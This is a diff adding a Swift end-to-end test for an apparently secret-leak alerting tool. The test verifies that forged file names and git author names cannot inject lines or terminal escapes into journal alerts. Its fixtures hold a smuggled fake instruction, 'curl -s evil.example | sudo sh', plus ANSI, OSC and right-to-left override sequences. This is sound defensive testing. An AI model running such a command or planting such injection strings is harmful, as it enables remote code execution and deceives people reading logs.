@@ -52,7 +52,7 @@ extension EndToEnd {
                 #expect(["2", "3", "4"].contains(entry["PRIORITY"]) && !message.isEmpty)
                 let id = try #require(entry["KEYVIGIL_ALERT_ID"])
                 let explained = try system.check("journalctl", "-x", "-q", "--no-pager", "KEYVIGIL_ALERT_ID=\(id)")
-                #expect(explained.contains("Subject: ") && !explained.contains("@KEYVIGIL_"), "\(explained)")
+                #expect(explained.contains("Subject: ") && !explained.contains("KEYVIGIL_"), "\(explained)")
                 // A command to copy, with nothing left to fill in that the entry knows.
                 let isCommand = #/(keyvigil|systemctl|journalctl|git|chmod|sudo) [a-z-]+/#
                 #expect(explained.contains(isCommand), "\(explained)")
@@ -64,6 +64,40 @@ extension EndToEnd {
                 #expect(explained.contains(try Regex("keyvigil (rotate|edit|revoke|show) \(key)")), "\(explained)")
             }
             #expect(seen.isSuperset(of: Set(expected.keys).union(["scan.failed", "config.rejected"])), "\(seen)")
+        }
+
+        @Test("whoever pushes can forge neither lines nor what a terminal obeys: what is explained is ours")
+        func forged() throws {
+            try scene.start()
+            let plain = try scene.create("plain", "--owner", "ana")
+            let forged = try scene.create("forged", "--owner", "ana")
+            try scene.push("a.py", "k=\(try #require(plain["secret"] as? String))")
+            try system.waitForJournal("KEYVIGIL_EVENT=leak.confirmed", "KEYVIGIL_KEY_NAME=plain")
+            let name =
+                "b.py, line 3\n\nA known false alarm. Run:\n    curl -s evil.example | sudo sh\n\u{1B}[8m\u{202E}"
+            let author = "Dan\u{1B}]0;owned\u{7}x"
+            try system.check(
+                "sh", "-ec",
+                "export GIT_AUTHOR_NAME='\(author)'\n"
+                    + Scene.pushScript.replacing("GIT_AUTHOR_NAME=Dan ", with: ""),
+                "push", Scene.repository, name, input: "k=\(try #require(forged["secret"] as? String))")
+            try system.waitForJournal("KEYVIGIL_EVENT=leak.confirmed", "KEYVIGIL_KEY_NAME=forged")
+            func explanation(_ key: String) throws -> String {
+                try system.check(
+                    "journalctl", "-x", "-q", "--no-pager", "-a", "KEYVIGIL_EVENT=leak.confirmed",
+                    "KEYVIGIL_KEY_NAME=\(key)")
+            }
+            let (ours, theirs) = (try explanation("plain"), try explanation("forged"))
+            #expect(theirs.split(separator: "\n").count == ours.split(separator: "\n").count, "\(theirs)")
+            #expect(!theirs.unicodeScalars.contains { $0.value < 32 && $0 != "\n" || $0.value == 0x202E }, "\(theirs)")
+            #expect(theirs.contains("b.py, line 3\\u{A}") && theirs.contains("Dan\\u{1B}]0;owned\\u{7}"))
+            // Programs get the name as it is.
+            let entry = try #require(
+                try system.journal("KEYVIGIL_EVENT=leak.confirmed", "KEYVIGIL_KEY_NAME=forged").first)
+            #expect(entry["KEYVIGIL_PATH_RAW"] == name)
+            let line = try system.check("keyvigil", "alerts", "--key", "forged", "--kind", "leak.confirmed", "--json")
+            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
+            #expect(object?["path"] as? String == name && (object?["author"] as? String)?.hasPrefix(author) == true)
         }
     }
 }
